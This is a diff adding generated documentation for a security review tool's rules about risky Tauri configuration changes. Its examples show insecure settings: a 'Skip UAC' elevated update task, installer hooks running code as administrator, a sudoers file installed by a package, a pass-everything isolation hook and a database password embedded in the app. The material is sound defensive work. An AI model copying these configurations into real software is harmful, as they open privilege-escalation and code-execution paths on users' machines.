+$RESOURCE/../**/*
+\`\`\`
+
+### It says nothing when a file moves
+
+\`src-tauri/lang/de.txt\`:
+
+\`\`\`diff
+-Notizen
+\`\`\`
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "bundle": {
+     "resources": [
+-      "lang/de.txt"
++      "text/de.txt"
+     ]
+   }
+\`\`\`
+
+\`src-tauri/text/de.txt\`:
+
+\`\`\`diff
++Notizen
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
+- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
+`,"bundle/identity-changed":`# The app has another name: \`bundle/identity-changed\`
+
+Severity: low for identifiers; info for names.
+
+Since: 0.1.0
+
+The identifier, the name, the publisher, the homepage or the upgrade code has another value.
+
+## Why it matters
+
+Folders, links, permissions that people gave and updates go by the identifier. With another app's one, the app takes over what is kept there.
+
+## What to do
+
+Keep the identifier for as long as the app lives.
+
+## When it says nothing
+
+- The same name moves to another file.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags another name
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+ {
+-  "productName": "notes",
++  "productName": "memos",
+   "identifier": "org.example.notes"
+ }
+\`\`\`
+
+The app can newly be installed under the name \`memos\`:
+
+\`\`\`
+memos
+\`\`\`
+
+### It says nothing when keys change places
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+ {
+-  "productName": "notes",
+-  "identifier": "org.example.notes"
++  "identifier": "org.example.notes",
++  "productName": "notes"
+ }
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
+- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
+`,"bundle/installer-code-changed":`# The installer runs other code: \`bundle/installer-code-changed\`
+
+Severity: high for a new one, medium for a new entry of the desktop or a file of texts; medium where a known one newly does something telling; low for its other\
+ text; low for an app that is new.
+
+Since: 0.1.0
+
+A key of the bundle names a script of a Debian or RPM package, a hook, template or language file of NSIS, a template or fragment of the MSI, an entry of the des\
+ktop or a template of XcodeGen, and it or its text is new.
+
+## Why it matters
+
+Such code runs with the rights of root, of an administrator or of the system, on the machine of everyone who installs the app; the template of XcodeGen runs on \
+the machine that builds and signs it. A hook of NSIS can start any program, and so can a file of its texts.
+
+## What to do
+
+Read the new lines. Leave to the installer what only copies files, and do the rest in the app, where it has the rights of the person alone.
+
+## When it says nothing
+
+- The file moved, and its text is the same.
+- A line moved within the file.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a new hook
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "bundle": {
+     "windows": {
+-      "nsis": {}
++      "nsis": {
++        "installerHooks": "./hooks.nsh"
++      }
+     }
+   }
+\`\`\`
+
+The installer can newly run \`./hooks.nsh\` on people's machines on Windows:
+
+\`\`\`
+ExecWait "$INSTDIR\\\\setup.exe"
+\`\`\`
+
+### It says nothing when the hook moves
+
+\`src-tauri/hooks.nsh\`:
+
+\`\`\`diff
+-!macro NSIS_HOOK_POSTINSTALL
+-  ExecWait "$INSTDIR\\\\setup.exe"
+-!macroend
+\`\`\`
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+     "windows": {
+       "nsis": {
+-        "installerHooks": "hooks.nsh"
++        "installerHooks": "windows/hooks.nsh"
+       }
+     }
+\`\`\`
+
+\`src-tauri/windows/hooks.nsh\`:
+
+\`\`\`diff
++!macro NSIS_HOOK_POSTINSTALL
++  ExecWait "$INSTDIR\\\\setup.exe"
++!macroend
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
+- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
+`,"bundle/installer-elevated":`# The installer gets more rights: \`bundle/installer-elevated\`
+
+Severity: critical for the elevated update task; medium for an installer for all people of a machine; low for an app that is new.
+
+Since: 0.1.0
+
+\`bundle.windows.wix.enableElevatedUpdateTask\` is on, or \`bundle.windows.nsis.installMode\` is \`perMachine\` or \`both\`.
+
+## Why it matters
+
+The update task runs \`msiexec\` on a file in \`%TEMP%\` with the highest rights, whenever any program starts it: a ready way around the question that Windows asks.\
+ An elevated installer gives its rights to every hook and every file that it runs.
+
+## What to do
+
+Leave the update task off, and let updates ask. Install for the current person unless the app needs more.
+
+## When it says nothing
+
+- The mode goes from \`perMachine\` to \`currentUser\`, or the task is turned off.
+- The same value moves to the platform file of Windows.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags the update task
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "bundle": {
+     "windows": {
+-      "wix": {}
++      "wix": {
++        "enableElevatedUpdateTask": true
++      }
+     }
+   }
+\`\`\`
+
+Any program of an administrator can newly install what it puts into \`%TEMP%\` as the system, without being asked on Windows:
+
+\`\`\`
+schtasks /run /tn "Update notes - Skip UAC"
+\`\`\`
+
+### It says nothing when the setting moves to the platform file
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "productName": "notes",
+   "identifier": "org.example.notes",
+-  "bundle": {
+-    "windows": {
+-      "nsis": {
+-        "installMode": "both"
+-      }
+-    }
+-  }
++  "bundle": {}
+ }
+\`\`\`
+
+\`src-tauri/tauri.windows.conf.json\`:
+
+\`\`\`diff
++{"bundle":{"windows":{"nsis":{"installMode":"both"}}}}
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
+- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
+`,"bundle/native-code-added":`# Other native code is loaded: \`bundle/native-code-added\`
+
+Severity: medium; low for Apple's own frameworks; low for an app that is new.
+
+Since: 0.1.0
+
+\`bundle.macOS.frameworks\` or \`bundle.iOS.frameworks\` has an entry that it had not, or the file that one names has other content.
+
+## Why it matters
+
+The app loads such code into its own process, where it may do what the app may, and no permission asks it.
+
+## What to do
+
+Say which release of which source it is, and compare its hash.
+
+## When it says nothing
+
+- The file moved, and its bytes are the same.
+- The path is written with \`./\` in front.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a library of the repository
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "bundle": {
+     "macOS": {
+-      "frameworks": []
++      "frameworks": [
++        "./libs/libsync.dylib"
++      ]
+     }
+   }
+\`\`\`
+
+The app can newly load the native code in \`./libs/libsync.dylib\` on macOS:
+
+\`\`\`
+dlopen("@rpath/./libs/libsync.dylib")
+\`\`\`
+
+### It says nothing when the path is spelt differently
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+     "macOS": {
+       "frameworks": [
+-        "libs/libsync.dylib"
++        "./libs/libsync.dylib"
+       ]
+     }
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
+- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
+`,"bundle/package-relation-added":`# The package touches another package: \`bundle/package-relation-added\`
+
+Severity: medium where it replaces, removes or stands for one; low where it brings one in; info for how it is ordered; low for an app that is new.
+
+Since: 0.1.0
+
+A list of the Debian or RPM package has a name that it had not.
+
+## Why it matters
+
+A package that replaces or conflicts with another one takes it away from every machine that the app is installed on, and with it its updates.
+
+## What to do
+
+Bring in what the app needs, and leave the rest alone.
+
+## When it says nothing
+
+- Another release of the same package is asked for.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a package that is replaced
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+     "linux": {
+       "deb": {
+-        "replaces": []
++        "replaces": [
++          "openssl"
++        ]
+       }
+     }
+\`\`\`
+
+The package can newly replace the system's package \`openssl\` on Linux:
+
+\`\`\`
+apt install ./notes.deb
+\`\`\`
+
+### It says nothing about another release
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+       "deb": {
+         "depends": [
+-          "libwebkit2gtk-4.1-0"
++          "libwebkit2gtk-4.1-0 (>= 2.42)"
+         ]
+       }
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
+- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
+`,"bundle/packing-changed":`# The app is packed differently: \`bundle/packing-changed\`
+
+Severity: low for tools and libraries from elsewhere; info for the rest.
+
+Since: 0.1.0
+
+A kind of package is new, or a switch of the bundle is on.
+
+## Why it matters
+
+A new kind of package brings settings into force that decided nothing before. A library that comes in the bundle gets no repairs from the system.
+
+## What to do
+
+Look at the settings of the new kind of package, too.
+
+## When it says nothing
+
+- "all" was there already.
+- A switch is turned off.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags another kind of package
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "bundle": {
+     "targets": [
+-      "deb"
++      "deb",
++      "msi"
+     ]
+   }
+\`\`\`
+
+The app can newly be packed as \`msi\`:
+
+\`\`\`
+tauri build --bundles msi
+\`\`\`
+
+### It says nothing when all kinds were there
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "identifier": "org.example.notes",
+   "bundle": {
+-    "targets": "all"
++    "targets": [
++      "deb",
++      "msi"
++    ]
+   }
+ }
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
+- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
+`,"bundle/privileged-file-installed":`# A package installs a file that the system obeys: \`bundle/privileged-file-installed\`
+
+Severity: critical for sudoers, polkit, systemd, cron, the loader of libraries, sources of packages, logins and launch daemons; high for udev, the system bus, p\
+rofiles, launch agents and other code in a bundle; medium for commands in \`bin\`; low for an app that is new.
+
+Since: 0.1.0
+
+An entry of \`deb.files\`, \`rpm.files\` or \`appimage.files\` below \`bundle.linux\`, or of \`bundle.macOS.files\`, has such a target, or its content there changed.
+
+## Why it matters
+
+Packages are installed as root, and so are their files. A line in \`/etc/sudoers.d\` gives any program of the person the whole machine; a unit of systemd runs at \
+every start.
+
+## What to do
+
+Leave such files to whoever runs the machine. If the app needs a service, let people install it themselves, and run it without root.
+
+## When it says nothing
+
+- The file moved in the repository, and lands with the same content.
+- Icons, pages of the manual and completions below \`/usr/share\`.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a rule of sudo
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+     "linux": {
+       "deb": {
+-        "files": {}
++        "files": {
++          "/etc/sudoers.d/notes": "linux/sudoers"
++        }
+       }
+     }
+\`\`\`
+
+A file that the package puts at \`/etc/sudoers.d/notes\` can newly decide who may act as root on Linux:
+
+\`\`\`
+install -o root linux/sudoers /etc/sudoers.d/notes
+\`\`\`
+
+### It says nothing when the file moves in the repository
+
+\`src-tauri/linux/notes.rules\`:
+
+\`\`\`diff
+-polkit.addRule(() => polkit.Result.NOT_HANDLED);
+\`\`\`
+
+\`src-tauri/packaging/notes.rules\`:
+
+\`\`\`diff
++polkit.addRule(() => polkit.Result.NOT_HANDLED);
+\`\`\`
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+       "deb": {
+         "files": {
+-          "/etc/polkit-1/rules.d/notes.rules": "linux/notes.rules"
++          "/etc/polkit-1/rules.d/notes.rules": "packaging/notes.rules"
+         }
+       }
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
+- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
+`,"bundle/program-changed":`# A shipped program has other bytes: \`bundle/program-changed\`
+
+Severity: medium; low for an app that is new.
+
+Since: 0.1.0
+
+A file of a program in \`bundle.externalBin\` (in Tauri 1: \`tauri.bundle.externalBin\`) has other content, or is there for another target.
+
+## Why it matters
+
+A sidecar is signed and installed with the app, and nobody can read it in a diff. Whoever replaces its file has code on every machine.
+
+## What to do
+
+Say which build of which source the file is, and compare its hash. Better, let the build fetch it by its hash.
+
+## When it says nothing
+
+- The file moved, and its bytes are the same.
+- The program itself is new: then \`config/sidecar-added\` tells of it.
+- The repository has no such file, since the build brings it.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags other bytes under the same name
+
+\`src-tauri/bin/tool-x86_64-unknown-linux-gnu\`:
+
+\`\`\`diff
+-one build
++another build
+\`\`\`
+
+The app can newly start other code as \`bin/tool\`: \`src-tauri/bin/tool-x86_64-unknown-linux-gnu\` holds other bytes:
+
+\`\`\`
+Command.sidecar("bin/tool")
+\`\`\`
+
+### It says nothing when the program moves
+
+\`src-tauri/bin/tool-x86_64-unknown-linux-gnu\`:
+
+\`\`\`diff
+-one build
+\`\`\`
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "bundle": {
+     "externalBin": [
+-      "bin/tool"
++      "tools/tool"
+     ]
+   }
+\`\`\`
+
+\`src-tauri/tools/tool-x86_64-unknown-linux-gnu\`:
+
+\`\`\`diff
++one build
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
+- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
+`,"bundle/signing-changed":`# The app is signed differently: \`bundle/signing-changed\`
+
+Severity: medium for another signer or none; info for the first one; low for weak hashes and for times without TLS; info for the protocol of times; low for an a\
+pp that is new.
+
+Since: 0.1.0
+
+A key that names the certificate, identity or team has another value or none, or one that says how to sign is weaker.
+
+## Why it matters
+
+Systems and people trust the app by its signature. An app that nobody signed is as trusted as any other download, and one that somebody else signed is theirs.
+
+## What to do
+
+Keep the certificate of the app, and say in the pull request when it is renewed.
+
+## When it says nothing
+
+- The value moves to a platform file.
+- The environment overrides the value: that is seen in the workflow that sets it.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags no signer
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "bundle": {
+     "macOS": {
+-      "signingIdentity": "Developer ID Application: Example (A1B2C3D4E5)"
++      "signingIdentity": "-"
+     }
+   }
+\`\`\`
+
+The app can newly be built without a signer by \`bundle.macOS.signingIdentity\` on macOS:
+
+\`\`\`
+codesign --sign -
+\`\`\`
+
+### It says nothing when the value moves to the platform file
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "productName": "notes",
+   "identifier": "org.example.notes",
+-  "bundle": {
+-    "macOS": {
+-      "signingIdentity": "Developer ID Application: Example (A1B2C3D4E5)"
+-    }
+-  }
++  "bundle": {}
+ }
+\`\`\`
+
+\`src-tauri/tauri.macos.conf.json\`:
+
+\`\`\`diff
++{"bundle":{"macOS":{"signingIdentity":"Developer ID Application: Example (A1B2C3D4E5)"}}}
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
+- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
+`,"bundle/webview-outdated":`# The app runs on an older browser or system: \`bundle/webview-outdated\`
+
+Severity: medium for a browser that the app brings; low for none, and for an older one; info for older systems; low for an app that is new.
+
+Since: 0.1.0
+
+\`webviewInstallMode\` is \`fixedRuntime\` or \`skip\`, or a minimum version is lower or gone.
+
+## Why it matters
+
+The browser parses everything that others send. One that is in the bundle gets no repairs until the app itself is updated.
+
+## What to do
+
+Leave the browser to the system, which updates it, and name the least release that has the repairs you need.
+
+## When it says nothing
+
+- The least release is a later one.
+- The browser is left to the system again.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a browser in the bundle
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "identifier": "org.example.notes",
+   "bundle": {
+-    "windows": {}
++    "windows": {
++      "webviewInstallMode": {
++        "type": "fixedRuntime",
++        "path": "./webview2"
++      }
++    }
+   }
+ }
+\`\`\`
+
+The app can newly show its pages in the browser in \`./webview2\`, which nobody updates on Windows:
+
+\`\`\`
+./webview2/msedgewebview2.exe
+\`\`\`
+
+### It says nothing when the least release is a later one
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "bundle": {
+     "windows": {
+-      "minimumWebview2Version": "104.0"
++      "minimumWebview2Version": "110.0.1587.40"
+     }
+   }
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
+- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
 `,"commands/check-removed":`# A command no longer checks what a page names: \`commands/check-removed\`
 
 Severity: high; critical where sites may call the command; info where no page may.
@@ -1081,6 +2876,133 @@ fetch('https://example.com', { danger: { acceptInvalidCerts: true } })
 - [Cargo: features](https://doc.rust-lang.org/cargo/reference/features.html)
 - [docs.rs: features of \`tauri\`](https://docs.rs/crate/tauri/latest/features)
 - [Tauri 2: the http plugin](https://v2.tauri.app/plugin/http-client/)
+`,"config/database-opened":`# The app opens another database: \`config/database-opened\`
+
+Severity: high for an address with a password; medium for a server; low for a file; low for an app that is new.
+
+Since: 0.1.0
+
+\`plugins.sql.preload\` has an address that it had not.
+
+## Why it matters
+
+The address is in every copy of the app, with the password in it.
+
+## What to do
+
+Let people enter passwords, and let a server of yours speak to the database.
+
+## When it says nothing
+
+- The address is no longer there.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a password
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "plugins": {
+     "sql": {
+-      "preload": []
++      "preload": [
++        "mysql://notes:secret@db.example.com/notes"
++      ]
+     }
+   }
+\`\`\`
+
+The app can newly open the database \`mysql://notes:\u2026@db.example.com/notes\`, with a password that every copy of the app holds:
+
+\`\`\`
+Database.load("mysql://notes:\u2026@db.example.com/notes")
+\`\`\`
+
+### It says nothing when the order changes
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+     "sql": {
+       "preload": [
+-        "sqlite:a.db",
+-        "sqlite:b.db"
++        "sqlite:b.db",
++        "sqlite:a.db"
+       ]
+     }
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
+- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
+`,"config/dev-server-remote":`# Developers run pages of another machine: \`config/dev-server-remote\`
+
+Severity: medium; low for an app that is new.
+
+Since: 0.1.0
+
+\`build.devUrl\` (in Tauri 1: \`build.devPath\`) has the address of another machine.
+
+## Why it matters
+
+While an app is developed, pages of that address are the app, without a Content Security Policy. Whoever serves them, or is on the way, runs what they like on t\
+he machines of developers.
+
+## What to do
+
+Serve the pages on the same machine.
+
+## When it says nothing
+
+- The port on the same machine changes.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a server in the network
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "identifier": "org.example.notes",
+   "build": {
+-    "devUrl": "http://localhost:1420"
++    "devUrl": "http://192.168.1.10:1420"
+   }
+ }
+\`\`\`
+
+Pages of \`http://192.168.1.10:1420\` can newly be the app on the machines of developers, with everything that is granted to its pages:
+
+\`\`\`
+tauri dev # GET http://192.168.1.10:1420/
+\`\`\`
+
+### It says nothing about another port
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "identifier": "org.example.notes",
+   "build": {
+-    "devUrl": "http://localhost:1420"
++    "devUrl": "http://localhost:5173"
+   }
+ }
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
+- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
 `,"config/devtools-in-release":`# The inspector is in releases: \`config/devtools-in-release\`
 
 Severity: medium; low for an app that is new.
@@ -1368,6 +3290,71 @@ cargo tree --invert cef-dll-sys
 - [Tauri 2: versions of webviews](https://v2.tauri.app/reference/webview-versions/)
 - [Chromium Embedded Framework](https://github.com/chromiumembedded/cef)
 - [Tauri 2: architecture](https://v2.tauri.app/concept/architecture/)
+`,"config/file-type-claimed":`# Files that others send open the app: \`config/file-type-claimed\`
+
+Severity: high for pages, programs, mail and any file; medium for other types; low where the app is only the first to open them; low for an app that is new.
+
+Since: 0.1.0
+
+\`bundle.fileAssociations\` has an ending or a type that it had not, or other apps of the device may hand it over in another way.
+
+## Why it matters
+
+A person opens a file that somebody sent, and the app reads it. What reads the file decides whether that is safe.
+
+## What to do
+
+Claim only the app's own type, and read such files as what they are: from anyone.
+
+## When it says nothing
+
+- The same type is described differently.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags pages
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+       {
+         "ext": [
+-          "note"
++          "note",
++          "html"
+         ]
+       }
+\`\`\`
+
+Whoever sends a person a file can newly have the app opened with a file of the type \`html\`:
+
+\`\`\`
+open file.html
+\`\`\`
+
+### It says nothing when the type is described
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+       {
+         "ext": [
+-          "note"
+-        ]
++          ".note"
++        ],
++        "description": "A note"
+       }
+     ]
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
+- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
 `,"config/foreign-script":`# A page runs a script of a website: \`config/foreign-script\`
 
 Severity: critical over \`http:\`; high; medium for a server on the same machine; low where the page names the hash.
@@ -1431,6 +3418,82 @@ Scripts of \`https://cdn.example\` can newly run in the app's own pages, with wh
 - [W3C: Subresource Integrity](https://www.w3.org/TR/SRI/)
 - [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)
 - [CVE-2023-31134: a website in a window reached the API of Tauri](https://github.com/advisories/GHSA-4wm2-cwcf-wwvp)
+`,"config/frontend-replaced":`# The app shows other pages: \`config/frontend-replaced\`
+
+Severity: medium where the repository holds the folder; info where the build makes it; low for an app that is new.
+
+Since: 0.1.0
+
+Another folder or file is the frontend, and what the repository holds there is different.
+
+## Why it matters
+
+Whatever lies in that folder is the app, with everything that is granted to its pages. Nobody who reads the old folder sees it.
+
+## What to do
+
+Let the build make the folder, or say in the pull request what the new pages are.
+
+## When it says nothing
+
+- The folder moved, and its files are the same.
+- Files in the folder change, and its name stays.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a committed folder
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "identifier": "org.example.notes",
+   "build": {
+-    "frontendDist": "../dist"
++    "frontendDist": "../prebuilt"
+   }
+ }
+\`\`\`
+
+The app can newly show the pages in \`../prebuilt\`, which this repository holds:
+
+\`\`\`
+../prebuilt/index.html
+\`\`\`
+
+### It says nothing when the same pages lie elsewhere
+
+\`pages/index.html\`:
+
+\`\`\`diff
+-<!doctype html>
+-<title>Notes</title>
+\`\`\`
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "identifier": "org.example.notes",
+   "build": {
+-    "frontendDist": "../pages"
++    "frontendDist": "../web"
+   }
+ }
+\`\`\`
+
+\`web/index.html\`:
+
+\`\`\`diff
++<!doctype html>
++<title>Notes</title>
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
+- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
 `,"config/global-api-exposed":`# Tauri's API is under a global name: \`config/global-api-exposed\`
 
 Severity: low.
@@ -1565,6 +3628,66 @@ The app's pages and sites in their frames can newly use devices and features:
 - [Tauri 2: HTTP headers](https://v2.tauri.app/security/http-headers/)
 - [MDN: Permissions-Policy](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Permissions-Policy)
 - [MDN: Content-Security-Policy](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy)
+`,"config/isolation-hook-changed":`# The isolation hook has other code: \`config/isolation-hook-changed\`
+
+Severity: medium; low for an app that is new.
+
+Since: 0.1.0
+
+The page or a script of the isolation application, which \`pattern.options.dir\` names, has other code than before.
+
+## Why it matters
+
+The hook sees every call that a page makes, and may refuse it. If it lets more pass, a script that someone else got into a page reaches Rust.
+
+## What to do
+
+Read the hook, and say in the pull request which calls it now lets pass. A hook that comes from a build is reviewed where its source is.
+
+## When it says nothing
+
+- Only comments or layout changed.
+- The folder moved, and its files are the same.
+- The isolation pattern is new in the app.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a hook that hands everything on
+
+\`isolation/hook.js\`:
+
+\`\`\`diff
+-window.__TAURI_ISOLATION_HOOK__ = (payload) => {
+-  if (payload.cmd.startsWith("plugin:shell")) throw new Error("no");
+-  return payload;
+-};
++window.__TAURI_ISOLATION_HOOK__ = (payload) => payload;
+\`\`\`
+
+The isolation hook can newly let other messages to Rust pass: its code in \`../isolation\` is different:
+
+\`\`\`
+window.__TAURI_ISOLATION_HOOK__ = (payload) => payload
+\`\`\`
+
+### It says nothing when only comments and layout change
+
+\`isolation/hook.js\`:
+
+\`\`\`diff
+-window.__TAURI_ISOLATION_HOOK__ = (payload) => payload;
++// Hands every message on.
++window.__TAURI_ISOLATION_HOOK__ =
++  (payload) => payload;
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
+- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
 `,"config/isolation-removed":`# Messages to Rust no longer pass the isolation hook: \`config/isolation-removed\`
 
 Severity: high.
@@ -1795,6 +3918,128 @@ location.href = 'stream://localhost/'
 - [docs.rs: \`tauri::Builder\`](https://docs.rs/tauri/latest/tauri/struct.Builder.html)
 - [CVE-2026-42184: a website was taken for the app itself](https://github.com/advisories/GHSA-7gmj-67g7-phm9)
 - [Tauri 2: runtime authority](https://v2.tauri.app/security/runtime-authority/)
+`,"config/page-unguarded":`# A page does what no policy keeps from it: \`config/page-unguarded\`
+
+Severity: high for a \`<base>\` of a website; medium for a frame with a website, for a policy that is gone, and for a document without one where the app has one; \
+low for the rest and for an app that is new.
+
+Since: 0.1.0
+
+A page besides the front page has no \`<meta>\` with a Content Security Policy any more, a \`.htm\`, \`.xhtml\` or active \`.svg\` is new, or a page has another \`<base>\
+\` or a frame with a website.
+
+## Why it matters
+
+Tauri sends its policy with \`.html\` alone. A drawing with a script, or a page with another ending, is a page of the app that may do everything that the policy f\
+orbids. A \`<base>\` of a website lets that site deliver the scripts that the page names.
+
+## What to do
+
+Call pages \`.html\`, keep drawings free of scripts, and show websites in frames with a \`sandbox\`.
+
+## When it says nothing
+
+- The file moved, and its content is the same.
+- A drawing only draws.
+- A new page has no policy of its own.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a base of a website
+
+\`public/help.html\`:
+
+\`\`\`diff
+ <!doctype html>
++<base href="https://example.com/">
+ <script src="help.js"></script>
+\`\`\`
+
+The page \`help.html\` can newly take its scripts and pages from \`https://example.com/\`:
+
+\`\`\`
+location.href = "/help.html"
+\`\`\`
+
+### It says nothing about a drawing that only draws
+
+\`public/logo.svg\`:
+
+\`\`\`diff
++<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
+`,"config/plugin-setting-changed":`# A plugin has another setting: \`config/plugin-setting-changed\`
+
+Severity: medium for keys that say that they open something or whom to trust, and for addresses without TLS; info for the rest; low for an app that is new.
+
+Since: 0.1.0
+
+A key below \`plugins\` that no other rule judges has a value that it had not.
+
+## Why it matters
+
+Plugins have switches of their own, and nothing checks how they are spelt. What they do is known to the plugin alone.
+
+## What to do
+
+Read in the plugin's documentation what the key does.
+
+## When it says nothing
+
+- The key is gone, or \`false\`.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a key that opens something
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "plugins": {
+     "vault": {
+-      "path": "a"
++      "path": "a",
++      "dangerousAllowAll": true
+     }
+   }
+\`\`\`
+
+A plugin can newly do what \`vault.dangerousAllowAll: true\` tells it:
+
+\`\`\`
+plugins.vault.dangerousAllowAll
+\`\`\`
+
+### It says nothing when keys change places
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "plugins": {
+     "vault": {
+-      "path": "a",
+-      "name": "b"
++      "name": "b",
++      "path": "a"
+     }
+   }
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
+- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
 `,"config/prototype-unfrozen":`# Objects' common ancestor can be changed: \`config/prototype-unfrozen\`
 
 Severity: low.
@@ -2374,6 +4619,73 @@ Command.sidecar("binaries/curl")
 
 - [Tauri 2: sidecars](https://v2.tauri.app/develop/sidecar/)
 - [Tauri 2: the shell plugin](https://v2.tauri.app/plugin/shell/)
+`,"config/surface-grown":`# The app takes or does a little more: \`config/surface-grown\`
+
+Severity: low; info for names and for the bus of the session.
+
+Since: 0.1.0
+
+A switch such as \`macOSPrivateApi\` is on, the command line has another argument, or windows share their data.
+
